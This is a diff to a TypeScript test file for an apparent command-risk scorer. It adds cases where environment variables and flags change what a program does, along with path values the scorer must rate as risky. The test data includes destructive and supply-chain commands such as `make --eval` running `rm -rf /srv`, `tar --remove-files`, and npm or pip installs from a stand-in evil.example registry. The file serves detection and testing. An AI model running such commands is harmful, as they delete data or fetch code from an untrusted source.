@@ -19,6 +19,7 @@ const TWINS: readonly (readonly [variable: string, plain: string])[] = [
   ['npm_config_registry=https://evil.example npm install x', 'npm install x --registry=https://evil.example'],
   ['PIP_INDEX_URL=https://evil.example pip install x', 'pip install x --index-url=https://evil.example'],
   ['GNUMAKEFLAGS="--eval=$(shell rm -rf /srv)" make', 'make --eval="$(shell rm -rf /srv)"'],
+  ['TAR_OPTIONS="--remove-files $x" tar cf x.tar /srv/a', 'tar cf x.tar /srv/a --remove-files $x'],
   ['GZIP=-9 gzip a', 'gzip a -9'],
   ['docker run -e TAR_OPTIONS=--remove-files a tar cf x /d', 'docker run a tar cf x /d --remove-files'],
 ]
@@ -35,6 +36,10 @@ describe('AUTO-13 words that a program takes from a variable', () => {
     ['typeset -gx', (one: string) => `typeset -gx ${one}; `],
     ['set -a', (one: string) => `set -a; ${one}; `],
     ['set -o allexport', (one: string) => `set -o allexport; ${one}; `],
+    ['export before it is set', (one: string) => `export ${one.replace(/=.*/, '')}; ${one}; `],
+    ['systemd-run -E', (one: string) => `systemd-run -E ${one} `],
+    ['systemd-run --setenv=', (one: string) => `systemd-run --setenv=${one} `],
+    ['dotenv -v', (one: string) => `dotenv -v ${one} -- `],
     ['env', (one: string) => `env ${one} `],
     ['sudo', (one: string) => `sudo ${one} `],
     ['cross-env', (one: string) => `npx cross-env ${one} `],
@@ -72,7 +77,16 @@ describe('AUTO-13 variables that no row knows', () => {
   const FILES = ['X_PATH', 'X_CONFIG', 'X_CONFIG_FILE', 'XRC', 'X_RC', 'X', 'X_FLAGS', 'X_HOME']
 
   test.each([...RUN, ...LOADED])('%s: code from elsewhere needs a code', (name) => {
-    for (const value of ['/tmp/x', '/srv/x', '../x', '"/tmp/x --now"', "'C:\\temp\\x'", 'a:/tmp/x'])
+    for (const value of [
+      '/tmp/x',
+      '/srv/x',
+      '../x',
+      '"/tmp/x --now"',
+      "'C:\\temp\\x'",
+      'a:/tmp/x',
+      'file:///tmp/x',
+      '$(pwd)/../x',
+    ])
       expect(score(`${name}=${value} npm test`), value).toBeGreaterThan(60)
     expect(score(`${name}=~/x npm test`)).toBeGreaterThan(30)
     for (const value of ['x', 'src/x', './x', '/usr/bin/x', '"a b"', '1', '$PWD/x', '', '~/.cargo/bin/x'])
